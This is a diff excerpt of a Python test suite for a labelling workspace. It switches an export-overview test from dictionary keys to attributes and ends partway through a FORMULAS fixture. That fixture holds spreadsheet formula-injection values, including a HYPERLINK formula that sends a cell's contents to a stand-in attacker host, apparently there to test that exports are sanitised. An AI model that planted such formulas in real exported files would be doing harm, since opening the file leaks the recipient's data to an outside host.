@@ -199,10 +199,9 @@ def test_a_write_that_fails_midway_leaves_neither_the_file_nor_its_temporary(tmp
 
 def test_export_overview_counts_the_events_and_lists_what_each_version_trained_on(ws, challenger, state):
     overview = export_overview(ws)
-    assert (overview["label_events"], overview["labelled_items"]) == (state(ws)["label_events"], 100)
-    assert [(v["version"], v["alias"], v["n_seed"]) for v in overview["versions"]] == [
-        (2, "challenger", 30), (1, "champion", 30)]
-    assert overview["versions"][0]["n_labels"] == challenger["n_train"] - 30
+    assert (overview.label_events, overview.labelled_items) == (state(ws)["label_events"], 100)
+    assert [(v.version, v.alias, v.n_seed) for v in overview.versions] == [(2, "challenger", 30), (1, "champion", 30)]
+    assert overview.versions[0].n_labels == challenger.n_train - 30
 
 
 FORMULAS = {"annotator": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "reason_code": "@SUM(A1:A9)",
